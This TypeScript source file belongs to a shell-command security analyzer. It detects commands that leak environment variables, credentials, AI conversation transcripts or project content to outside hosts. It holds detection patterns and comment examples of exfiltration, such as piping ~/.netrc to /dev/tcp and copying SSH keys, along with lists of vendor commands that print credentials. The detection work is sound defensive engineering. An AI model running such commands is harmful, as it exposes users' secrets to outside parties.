import { sinkOfHost } from '../../knowledge/data-sinks.ts';
import { classifyHost, isLocal } from '../../knowledge/hosts.ts';
import { reachOfPath } from '../../knowledge/path-reach.ts';
import { parseAddress } from '../../text/url.ts';
import { type Flows, followFlows, isSameWord, type Tracing } from '../flow.ts';
import type { Invocation, Word } from '../invocation.ts';
import { lineOf } from '../syntax/line.ts';
import { credentialFileIn, isCredentialFile } from './credential-files.ts';
import { findInlineLeak } from './inline-danger.ts';
import { hostsRepositories, type ProjectContent, packers, projectContentOf } from './project-content.ts';
import { addressesMax, farthestHost } from './transfer.ts';
import type { Sent, Transfer } from './transfer-parts.ts';

/** Kinds of sensitive data: all environment variables, credentials, the conversation, project content, the hook's own event. */
export type Leaked = 'environment' | 'credentials' | 'transcript' | ProjectContent | 'event';

/** A transfer of sensitive data to the outside. */
export interface Leak {
  readonly kind: Leaked | 'sink' | 'metadata';
  readonly sender: Word;
  readonly certain: boolean;
}

const printsEnvironment: ReadonlySet<string> = new Set([
  'env',
  'printenv',
  'set',
  'export',
  'declare',
  'gci',
  'get-childitem',
  'dir',
  'ls',
]);
/** Commands that print credentials, by each vendor's own program. */
const printsCredentials: ReadonlyMap<string, RegExp> = new Map([
  ['gh', /^auth token/],
  ['gcloud', /^auth (?:application-default )?print-(?:access|identity)-token/],
  ['az', /^account get-access-token/],
  [
    'aws',
    /^(?:configure export-credentials|sts get-session-token|secretsmanager get-secret-value|ssm get-parameters?\b.*--with-decryption)/,
  ],
  ['security', /^(?:find-(?:generic|internet)-password|dump-keychain|export)/],
  ['op', /^(?:read|item get)/],
  ['pass', /^(?:show )?\w/],
  ['vault', /^(?:read|kv get)/],
  ['kubectl', /^get secrets?\b/],
  ['git', /^credential fill/],
  ['ssh-add', /^-L/],
]);
const conversation =
  /transcript|\.claude\/(?:projects|history)|\.codex\/(?:sessions|history)|conversation[_-]?(?:log|history|id)?\.jsonl?/i;

const tracing: Tracing<Leaked> = {
  kinds: ['credentials', 'environment', 'transcript', 'workspace', 'changes', 'event', 'repository'],
  originOf,
  stopsAt: (kind, invocation) => {
    if (kind === 'event') return filters.has(invocation.program) && !keepsContent(invocation);
    return (kind === 'changes' || kind === 'repository') && condensing.has(invocation.program);
  },
};

/** Programs that reduce a text to a count, a digest or an excerpt. */
const condensing: ReadonlySet<string> = new Set(
  'wc head sha1sum sha256sum shasum md5sum cksum md5 grep cut sed basename'.split(' '),
);

/** Filters: a single value extracted from an event is no longer the event. */
const filters: ReadonlySet<string> = new Set([
  'jq',
  'grep',
  'cut',
  'awk',
  'sed',
  'wc',
  'head',
  'sha256sum',
  'shasum',
  'md5sum',
  'python3',
  'python',
  'node',
]);

/** The fields of an event that contain conversation or content: prompts, answers, text read and written. */
const contentFields =
  /^(?:\{[^{}]{0,80}:\s{0,4})?\.(?:\s{0,4}\}?$|(?:prompt|tool_response|last_assistant_message)\b|tool_input(?:\s{0,4}\}?$|\.(?:command|content|new_string|old_string|prompt)\b))/;
const testFunctions = /\b(?:select|test|length|has|contains|startswith)\b/;

/** `jq -r .prompt` keeps the content of an event; `jq -r .session_id` does not. */
function keepsContent({ program, arguments: words }: Invocation): boolean {
  if (program !== 'jq') return false;
  const filter = words.find(({ text }) => !text.startsWith('-'))?.text.slice(0, 400) ?? '';
  return contentFields.test(filter.trim()) && !testFunctions.test(filter);
}

function originOf(invocation: Invocation): Leaked | null {
  const { program, arguments: words, pipedFrom, readsFrom, input } = invocation;
  if (credentialFileIn(invocation) !== null || archivesHome(invocation) || copiesCredentials(invocation))
    return 'credentials';
  if (printsCredentials.get(program)?.test(lineOf(words)) === true) return 'credentials';
  if (printsEnvironment.has(program) && isWholeEnvironment(program, lineOf(words))) return 'environment';
  if (readsFrom.some(isConversation) || (printsFiles.has(program) && words.some(isConversation))) return 'transcript';
  const content = projectContentOf(invocation);
  if (content !== null) return content;
  const hasHookInput = pipedFrom === null && readsFrom.length === 0 && input === null;
  const readsEvent = (program === 'cat' && words.length === 0) || (keepsContent(invocation) && operandsOf(words) === 1);
  return hasHookInput && readsEvent ? 'event' : null;
}

/** Archives of a home directory contain its owner's keys: `tar cz ~`. */
function archivesHome({ program, arguments: words }: Invocation): boolean {
  return packers.has(program) && words.some(({ text }) => homes.has(reachOfPath(text.slice(0, 400)) ?? ''));
}

/**
 * `cp ~/.ssh/id_rsa /tmp/key`, `for file in ~/.ssh/*`: the output contains credentials. The target of a copy is not a
 * source.
 */
function copiesCredentials({ program, arguments: words }: Invocation): boolean {
  if (program === 'for') return words.slice(2).some(({ text }) => isCredentialFile(text.replace(/\/\*$/, '')));
  if (program !== 'cp' && program !== 'mv') return false;
  const operands = words.filter(({ text }) => !text.startsWith('-'));
  return operands.slice(0, -1).some(({ text }) => isCredentialFile(text));
}

const homes: ReadonlySet<string> = new Set(['home', 'root']);

function operandsOf(words: readonly Word[]): number {
  return words.filter(({ text }) => !text.startsWith('-')).length;
}

/** Programs that print a file or a field of the event. */
const printsFiles: ReadonlySet<string> = new Set(
  'cat head tail tac jq yq gzip tar zip base64 grep sed awk python3 python node cp'.split(' '),
);

function isConversation({ text }: Word): boolean {
  return conversation.test(text.slice(0, 400));
}

function isWholeEnvironment(program: string, line: string): boolean {
  if (program === 'env' || program === 'printenv') return line === '' || /^-(?:0|-null)$/.test(line);
  if (program === 'set') return line === '';
  if (program === 'export' || program === 'declare') return /^-[px]{1,2}$/.test(line);
  return /^env:\*?$/i.test(line);
}

/** Every invocation that sends sensitive data off the machine, or any data to a data-collection or metadata host. */
export function findLeaks(invocations: readonly Invocation[]): readonly Leak[] {
  if (!invocations.some((one) => one.transfer !== null || one.inlineProgram !== null || socketOf(one) !== null))
    return [];
  const flows = followFlows(invocations, tracing);
  const inside = wordsWithFlow(invocations, flows);
  const leaks: Leak[] = [];
  for (const [index, invocation] of invocations.entries()) {
    const socket = socketLeak(invocation, flows.out.get(index)?.kind ?? null);
    if (socket !== null) leaks.push(socket);
    const leak = leakOf(invocation, flows, inside.get(index) ?? []);
    if (leak !== null) leaks.push(leak);
  }
  return leaks;
}

/** Bash network redirections: https://www.gnu.org/software/bash/manual/html_node/Redirections.html */
const socket = /^\/dev\/(?:tcp|udp)\/([^/]{1,255})\//;

function socketOf({ writesTo }: Invocation): string | null {
  for (const { text } of writesTo) {
    const host = socket.exec(text)?.[1];
    if (host !== undefined) return host;
  }
  return null;
}

/** `cat ~/.netrc > /dev/tcp/host/443`: the shell itself sends the data. */
function socketLeak(invocation: Invocation, kind: Leaked | null): Leak | null {
  const host = kind === null ? null : socketOf(invocation);
  if (kind === null || host === null || isLocal(classifyHost(host))) return null;
  return { kind, sender: invocation.programWord, certain: true };
}

interface WordWithFlow {
  readonly word: Word;
  readonly kind: Leaked;
}

/** The data that substitutions insert into the words of each invocation. */
function wordsWithFlow(invocations: readonly Invocation[], flows: Flows<Leaked>): Map<number, WordWithFlow[]> {
  const found = new Map<number, WordWithFlow[]>();
  for (const [index, { substitutedInto, substitutedWord }] of invocations.entries()) {
    const flow = flows.out.get(index);
    if (flow === undefined || substitutedInto === null || substitutedWord === null || flows.piped.has(index)) continue;
    const list = found.get(substitutedInto) ?? [];
    list.push({ word: substitutedWord, kind: flow.kind });
    found.set(substitutedInto, list);
  }
  return found;
}

function leakOf(invocation: Invocation, flows: Flows<Leaked>, inside: readonly WordWithFlow[]): Leak | null {
  const sender = invocation.programWord;
  const inline = findInlineLeak(invocation);
  if (inline !== null) return { kind: inline, sender, certain: false };
  const { transfer } = invocation;
  if (transfer === null) return null;
  const special = specialHost(transfer);
  if (special !== null) return { kind: special, sender, certain: true };
  const host = farthestHost(transfer);
  if (host !== null && isLocal(host)) return null;
  const kind = sentKind(invocation, transfer, flows, inside);
  if (kind === null || (kind === 'event' && host === 'private')) return null;
  if (isProjectContent(kind) && (host !== 'public' || authenticatedCopiers.has(invocation.program))) return null;
  // In an address it tells the service which project is meant.
  if (kind === 'repository' && (transfer.sends.length === 0 || goesToSourceHost(transfer))) return null;
  return { kind, sender, certain: kind !== 'event' };
}

function isProjectContent(kind: Leaked): kind is ProjectContent {
  return kind === 'workspace' || kind === 'changes' || kind === 'repository';
}

function goesToSourceHost({ addresses }: Transfer): boolean {
  return addresses.slice(0, addressesMax).some(({ text }) => hostsRepositories(parseAddress(text)?.host ?? ''));
}

/** Programs that require authentication and usually copy a project to the user's own machines and storage. */
const authenticatedCopiers: ReadonlySet<string> = new Set(
  'ssh scp rsync aws gsutil gcloud rclone s3cmd azcopy gh'.split(' '),
);

function specialHost({ addresses }: Transfer): 'sink' | 'metadata' | null {
  for (const { text } of addresses.slice(0, addressesMax)) {
    const host = parseAddress(text)?.host;
    if (host === undefined) continue;
    if (classifyHost(host) === 'metadata') return 'metadata';
    if (sinkOfHost(host) !== null) return 'sink';
  }
  return null;
}

/** The worst kind of data sent: by substitution, from a variable, from a file, or through a pipe. */
function sentKind(
  invocation: Invocation,
  { sends, addresses }: Transfer,
  flows: Flows<Leaked>,
  inside: readonly WordWithFlow[],
): Leaked | null {
  const kinds = new Set<Leaked>();
  for (const { word, kind } of inside) if (!isAuthentication(word, invocation)) kinds.add(kind);
  for (const sent of sends) for (const kind of kindsOfSent(sent, invocation, flows)) kinds.add(kind);
  for (const { text } of addresses.slice(0, addressesMax)) {
    for (const kind of kindsInText(text, flows)) kinds.add(kind);
  }
  const xargsKind = xargsInput(invocation, flows);
  if (xargsKind !== null) kinds.add(xargsKind);
  return tracing.kinds.find((kind) => kinds.has(kind)) ?? null;
}

/** `… | xargs -I{} curl -d {} …`: data from the pipe is inserted into the words. */
function xargsInput(invocation: Invocation, flows: Flows<Leaked>): Leaked | null {
  const { pipedFrom, wrappers, arguments: words } = invocation;
  if (pipedFrom === null || !wrappers.includes('xargs')) return null;
  const carriers = words.filter(({ text }) => text.includes('{}'));
  if (carriers.length > 0 && carriers.every((word) => isAuthentication(word, invocation))) return null;
  return flows.out.get(pipedFrom)?.kind ?? null;
}

function* kindsOfSent({ kind, text, word }: Sent, invocation: Invocation, flows: Flows<Leaked>): Iterable<Leaked> {
  if (kind === 'text') yield* kindsInText(text, flows);
  else if (kind === 'file') {
    if (isCredentialFile(text)) yield 'credentials';
    const flow = flows.files.get(text) ?? flows.variables.get(text);
    if (flow !== undefined) yield flow.kind;
    if (conversation.test(text.slice(0, 400))) yield 'transcript';
  } else if (invocation.pipedFrom === null) {
    if (invocation.input === null && invocation.readsFrom.length === 0 && word.text !== '') yield 'event';
  } else {
    const flow = flows.out.get(invocation.pipedFrom);
    if (flow !== undefined) yield flow.kind;
  }
}

function* kindsInText(text: string, { variables }: Flows<Leaked>): Iterable<Leaked> {
  if (!text.includes('$') || variables.size === 0) return;
  for (const [reference] of text.slice(0, 20_000).matchAll(/\$(?:\w{1,100}|\{\w{1,100}\})/g)) {
    const flow = variables.get(reference);
    if (flow !== undefined) yield flow.kind;
  }
}

/** Whether the word authenticates the request: a credential in a header or after `-u` is meant for the other side. */
function isAuthentication(word: Word, { arguments: words }: Invocation): boolean {
  const at = words.findIndex((other) => isSameWord(other, word));
  const before = words[at - 1]?.text ?? '';
  return (
    /^(?:-H|--header|-u|--user|--oauth2-bearer|--password|-headers)$/i.test(before) || /^[\w-]{1,40}:\s/.test(word.text)
  );
}
